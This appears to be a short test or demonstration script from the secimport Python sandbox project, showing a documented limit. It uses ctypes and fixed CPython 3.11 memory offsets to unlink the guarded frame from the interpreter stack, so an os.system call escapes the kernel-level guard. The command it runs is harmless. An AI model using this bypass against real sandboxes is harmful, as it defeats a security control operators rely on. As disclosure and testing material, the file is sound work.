"""Code running under a guard rewrites the interpreter's memory with ctypes:
its frame's `previous` pointer is set to NULL, so the kernel's walk no longer
reaches the guard's frame, and os.system runs. A known limit (docs/security.md:
the kernel reads the stack from the process's own memory).
Usage: ctypes_unlink.py MARKER LOG  (CPython 3.11 layouts)"""

import ctypes
import os
import sys

import secimport

marker, log = sys.argv[1:3]


def payload() -> str:
    frame = sys._getframe()
    # PyFrameObject.f_frame (after the object header and f_back), then
    # _PyInterpreterFrame.previous (after f_func, f_globals, f_builtins,
    # f_locals, f_code, frame_obj).
    interp_frame = ctypes.c_void_p.from_address(id(frame) + 24).value
    previous = ctypes.c_void_p.from_address(interp_frame + 48)
    saved = previous.value
    previous.value = None
    try:
        os.system(f"touch {marker}")
    finally:
        previous.value = saved
    return "returned"


print(secimport.sandboxed(mode="kill", log_file=log)(payload)(), flush=True)
